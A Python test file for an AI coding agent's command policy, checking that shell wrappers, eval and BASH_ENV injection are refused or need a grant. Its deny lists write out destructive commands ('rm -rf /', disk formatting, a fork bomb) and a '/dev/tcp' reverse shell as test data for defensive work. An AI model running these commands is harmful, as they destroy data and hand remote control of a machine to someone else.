"""In the command policy: shells and eval: `bash -c`, `sh -c`, `source`, an injected BASH_ENV.

Their facts: konstruct_tui/commands/programs/shells.py."""

from __future__ import annotations

from pathlib import Path

import pytest
from program_answers import answer
from policy_cases import check


DENIED = [
    # shells and interpreters smuggling denied commands
    'bash -c "rm -rf /"',
    "sh -c 'rm -rf /'",
    "zsh -c 'rm -rf ~'",
    "sh -c 'ls; rm -rf /'",
    "bash -lc 'mkfs.ext4 /dev/sda'",
    "eval 'rm -rf /'",
    "sh -c \"rm -rf /$X\"",
    "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
    "bash -c ':(){ :|:& };:'",
    "bash -c 'eval rm -rf /'",
    "systemd-run rm -rf /",
]


@pytest.mark.parametrize("command", DENIED)
def test_hard_deny_list_refuses_every_spelling(command: str) -> None:
    decision = check(command)
    assert (decision.decision, decision.rule) == ("refuse", "deny"), decision.reason


SHELL_WRAPPED = [
    "sh -c 'ls; rm -rf build'",
    "bash -c 'ls && ls'",
    "bash -c 'cat x | sh'",
    "eval 'ls; ls'",
    "eval ls",
    "bash -c 'echo $HOME'",
    "sh -c 'rm -rf $DIR/'",
]


@pytest.mark.parametrize("command", SHELL_WRAPPED)
def test_shells_and_eval_cannot_smuggle_compound_commands(command: str) -> None:
    decision = check(command)
    assert (decision.decision, decision.rule) == ("refuse", "shell_wrapper"), decision.reason


OTHER_REFUSALS = [
    ("BASH_ENV=/tmp/x bash script.sh", "env_injection"),
]


@pytest.mark.parametrize(("command", "rule"), OTHER_REFUSALS)
def test_other_refusals_name_their_rule(command: str, rule: str) -> None:
    decision = check(command)
    assert (decision.decision, decision.rule) == ("refuse", rule), decision.reason


ASKED = [
    "bash scripts/test.sh",
    "sh ./configure",
    'bash -c "ls"',
    "source venv/bin/activate",
]


@pytest.mark.parametrize("command", ASKED)
def test_everyday_commands_are_not_refused_and_ask_for_the_commands_grant(command: str) -> None:
    decision = check(command)
    assert (decision.decision, decision.rule, decision.capability) == ("ask", "needs_grant", "commands"), decision.reason
    assert decision.argv  # what would run, word by word


# Held, pinned: a file the agent wrote (or named like a look-around program) is never a look around,
# nor admitted by a preset; it runs only under the commands grant, in the sandbox.
@pytest.mark.parametrize("command", [
    "sh x.sh",
    "bash ./x.sh",
])
def test_a_program_from_the_project_is_never_a_look_around(command: str, tmp_path: Path) -> None:
    assert answer(command, tmp_path) == ("ask", "needs_grant")


@pytest.mark.parametrize("command", [
    "sh x.sh",
])
def test_a_program_from_the_project_is_never_admitted_by_a_preset(command: str, tmp_path: Path) -> None:
    assert answer(command, tmp_path, presets=["python"]) == ("refuse", "allowlist")
